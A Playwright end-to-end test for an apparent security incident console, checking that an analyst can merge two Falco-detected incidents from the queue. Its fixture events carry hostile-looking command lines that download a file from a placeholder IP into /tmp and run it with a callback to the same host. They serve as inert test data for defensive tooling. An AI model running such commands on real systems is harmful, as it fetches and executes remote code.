// Finishing a case from the queue: two incidents the analyst judges to be one attack are selected,
// merged into the one kept, and the other's link leads to it.
import { expect, test } from "@playwright/test";
import { demoPod, login, postFalco, USERS } from "./helpers";

test("an analyst merges two incidents of one attack from the queue", async ({ page, request }) => {
  const pod = await demoPod(request, "default", "system-monitor-deployment-");
  const event = (rule: string, minutesAgo: number, cmdline: string) => ({
    output: `Notice ${rule}`,
    priority: "Warning",
    rule,
    time: new Date(Date.now() - minutesAgo * 60_000).toISOString(),
    source: "syscall",
    hostname: "e2e-merge-node",
    tags: ["T1059", "mitre_execution"],
    output_fields: { "k8s.ns.name": "default", "k8s.pod.name": pod, "container.name": "system-monitor", "proc.name": cmdline.split(" ")[0], "proc.cmdline": cmdline, "user.name": "root" },
  });
  // two hours apart: past the correlation window, so two incidents of one workload
  expect((await postFalco(request, [event("E2E merge first stage", 180, "wget -qO /tmp/x http://203.0.113.7/x"), event("E2E merge second stage", 5, "/tmp/x --connect 203.0.113.7")])).accepted).toBe(2);

  await login(page, USERS.analyst);
  await page.goto("/incidents?q=E2E merge");
  const rows = page.getByTestId("incident-row");
  await expect(rows).toHaveCount(2);
  const firstHref = await rows.nth(0).getByTestId("incident-link").getAttribute("href");
  const secondHref = await rows.nth(1).getByTestId("incident-link").getAttribute("href");
  await rows.nth(0).getByRole("checkbox").check();
  await rows.nth(1).getByRole("checkbox").check();
  await page.getByRole("region", { name: "Bulk actions" }).getByRole("button", { name: "Merge…" }).click();
  const dialog = page.getByRole("dialog", { name: "Merge incidents" });
  await expect(dialog.getByRole("radio")).toHaveCount(2);
  await expect(dialog.getByRole("radio").first()).toBeChecked();
  await page.screenshot({ path: "test-results/screens/merge-dialog.png" });
  await dialog.getByRole("button", { name: "Merge 1 into the one kept" }).click();
  await expect(page.getByTestId("queue-status")).toHaveText("2 incidents merged into one.");
  await expect(rows).toHaveCount(1);
  await expect(rows.first().getByTestId("incident-link")).toHaveAttribute("href", firstHref!);
  // the merged incident's link leads to the one kept, with both alerts
  await page.goto(secondHref!);
  await expect(page).toHaveURL(new RegExp(firstHref!.replace(/[/]/g, "\\/")));
  await expect(page.getByTestId("alerts-summary")).toContainText("2 alerts");
});
